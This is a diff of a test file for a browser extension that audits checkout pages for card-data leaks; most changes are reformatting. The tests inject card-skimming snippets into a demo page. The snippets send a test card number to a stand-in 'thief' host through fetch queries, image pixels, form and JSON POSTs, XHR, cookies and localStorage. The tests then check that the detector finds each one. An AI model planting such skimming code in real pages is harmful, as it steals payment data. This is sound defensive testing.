@@ -4,12 +4,12 @@ import { afterEach, expect, test } from 'vitest'
 import { checkouts } from '../../demo/checkouts.ts'
 import { otherProcessor, standIn } from '../../demo/hosts.ts'
 import type { Popup } from '../../runner/session.ts'
-import type { CardDataLeak } from '../../src/engine/audit/card-data-leak.ts'
-import { markdownOf } from '../../src/engine/export/markdown.ts'
-import { safeJson } from '../../src/engine/export/json.ts'
-import { csvOf } from '../../src/engine/export/csv.ts'
-import type { Audit } from '../../src/engine/audit/types.ts'
 import { sleep } from '../../runner/until-quiet.ts'
+import type { CardDataLeak } from '../../src/engine/audit/card-data-leak.ts'
+import type { Audit } from '../../src/engine/audit/types.ts'
+import { csvOf } from '../../src/engine/export/csv.ts'
+import { safeJson } from '../../src/engine/export/json.ts'
+import { markdownOf } from '../../src/engine/export/markdown.ts'
 import { chromiumOnly, kind, useBrowser } from './harness.ts'
 
 const browser = useBrowser()
@@ -24,7 +24,8 @@ const shop = new URL(url)
 const asked = kind === 'firefox' ? ['https://*/*', 'http://*/*'] : [`https://*.${shop.hostname}/*`]
 const inBackground = (expression: string) => browser.session.inBackground(expression)
 const granted = () => inBackground('chrome.permissions.getAll().then(({ origins }) => origins)')
-const registered = () => inBackground('chrome.scripting.getRegisteredContentScripts().then((all) => all.map(({ id }) => id).sort())')
+const registered = () =>
+  inBackground('chrome.scripting.getRegisteredContentScripts().then((all) => all.map(({ id }) => id).sort())')
 
 /** Nobody answers the browser's question in a test: Firefox has a preference for that, and Chromium asks nothing once a site was granted. */
 async function grant(): Promise<void> {
@@ -80,7 +81,10 @@ const post = (body: string) => `fetch('${thief}', { method: 'POST', mode: 'no-co
 /** Each way to leak, with the place and form in which it is found. A field's name tells them apart. */
 const ways: Record<string, { does: string; found: string }> = {
   query: { does: `fetch('${thief}?q=${card}', { mode: 'no-cors' }).catch(() => 1)`, found: 'query plain q' },
-  picture: { does: `new Promise((done) => { const pixel = new Image(); pixel.onload = pixel.onerror = () => done(1); pixel.src = '${thief}?pixel=${card}' })`, found: 'query plain pixel' },
+  picture: {
+    does: `new Promise((done) => { const pixel = new Image(); pixel.onload = pixel.onerror = () => done(1); pixel.src = '${thief}?pixel=${card}' })`,
+    found: 'query plain pixel',
+  },
   form: { does: post(`new URLSearchParams({ form: '${card}' })`), found: 'form plain form' },
   json: { does: post(`JSON.stringify({ json: '4509-9535-6623-3704' })`), found: 'json grouped json' },
   multipart: { does: post(fields({ part: card })), found: `${kind === 'firefox' ? 'form' : 'multipart'} plain part` },
@@ -93,7 +97,10 @@ const ways: Record<string, { does: string; found: string }> = {
     does: `new Promise((done) => { const xhr = new XMLHttpRequest(); xhr.onloadend = () => done(1); xhr.open('POST', '${thief}'); xhr.send('xhr=${card}') })`,
     found: 'form plain xhr',
   },
-  request: { does: `fetch(new Request('${thief}', { method: 'POST', mode: 'no-cors', body: 'asked=${card}' })).catch(() => 1)`, found: 'form plain asked' },
+  request: {
+    does: `fetch(new Request('${thief}', { method: 'POST', mode: 'no-cors', body: 'asked=${card}' })).catch(() => 1)`,
+    found: 'form plain asked',
+  },
   bytes: { does: post(`new Blob(['{"blob":"${card}"}'])`), found: 'json plain blob' },
   cookie: { does: `document.cookie = 'biscuit=${card}'`, found: 'cookie plain biscuit' },
   storage: { does: `localStorage.setItem('kept', JSON.stringify({ pan: '${card}' }))`, found: 'local-storage plain kept.pan' },
@@ -134,7 +141,13 @@ test('each way to leak is found, and no digit of the card is kept or shown but t
   const leak = audit.cardDataLeak
   await page.evaluate(`document.cookie = 'biscuit=; max-age=0'; localStorage.clear(); sessionStorage.clear()`)
   const found = leak.findings.map(({ place, form, field }) => `${place === 'page-address' ? 'query' : place} ${form} ${field}`)
-  expect([...new Set(found)].sort()).toEqual(expect.arrayContaining(Object.values(ways).map(({ found }) => found).sort()))
+  expect([...new Set(found)].sort()).toEqual(
+    expect.arrayContaining(
+      Object.values(ways)
+        .map(({ found }) => found)
+        .sort(),
+    ),
+  )
   expect(leak).toMatchObject({ outcome: 'failed', reason: 'leaked', browser: kind })
   expect(new Set(leak.findings.map(({ host }) => host))).toEqual(new Set([otherProcessor, shop.hostname]))
   expect(new Set(leak.findings.map(({ masked, length }) => `${masked} ${length}`))).toEqual(new Set(['450995…3704 16']))
@@ -145,12 +158,15 @@ test('each way to leak is found, and no digit of the card is kept or shown but t
   await report.close()
   const { cardDataLeak: _, ...others } = audit
   // Markdown, CSV and JSON as they are saved; the page's own words in them are not the card's.
-  for (const text of [during, await stored(), shown, markdownOf(audit, 'es'), csvOf(audit, 'es'), safeJson(audit), said.join()]) expectMasked(text)
+  for (const text of [during, await stored(), shown, markdownOf(audit, 'es'), csvOf(audit, 'es'), safeJson(audit), said.join()])
+    expectMasked(text)
   expect(safeJson(others)).not.toContain('450995')
 })
 
 const journeyOf = () =>
-  inBackground(`chrome.storage.session.get().then((all) => Object.entries(all).find(([key]) => key.startsWith('tab:'))[1].journey)`)
+  inBackground(
+    `chrome.storage.session.get().then((all) => Object.entries(all).find(([key]) => key.startsWith('tab:'))[1].journey)`,
+  )
 
 test('a security code beside the number is found, and none of its digits is told', async () => {
   const page = await browser.visit(url)
@@ -176,7 +192,11 @@ test('a payment whose card goes to Mercado Pago only is right, and says in how m
   const page = await browser.visit(url)
   await watch(page)
   await page.evaluate(tokenise)
-  await page.evaluate(post(`JSON.stringify({ token: 'ff8080814c11e237014c1ff593b57b4d', order: '4539148803436467', phone: '+54 9 11 4444-5555', dni: '12345678' })`))
+  await page.evaluate(
+    post(
+      `JSON.stringify({ token: 'ff8080814c11e237014c1ff593b57b4d', order: '4539148803436467', phone: '+54 9 11 4444-5555', dni: '12345678' })`,
+    ),
+  )
   const { cardDataLeak: leak } = await finish(page)
   expect(leak).toMatchObject({ outcome: 'passed', reason: 'nothing-seen', findings: [] })
   expect(leak.watched.requests).toBeGreaterThan(0)
@@ -208,7 +228,13 @@ test('a form that leaves the page: Firefox shows what it sends, Chromium says th
   await gone
   const { cardDataLeak: leak } = await finish(page)
   if (kind === 'firefox') expect(leak.findings).toMatchObject([{ place: 'form', field: 'typed', host: shop.hostname }])
-  else expect(leak).toMatchObject({ reason: 'not-all-seen', outcome: 'cantTell', findings: [], notWatched: expect.arrayContaining(['form-bodies']) })
+  else
+    expect(leak).toMatchObject({
+      reason: 'not-all-seen',
+      outcome: 'cantTell',
+      findings: [],
+      notWatched: expect.arrayContaining(['form-bodies']),
+    })
 })
 
 test('off: nothing is granted, registered or changed, before and after', async () => {
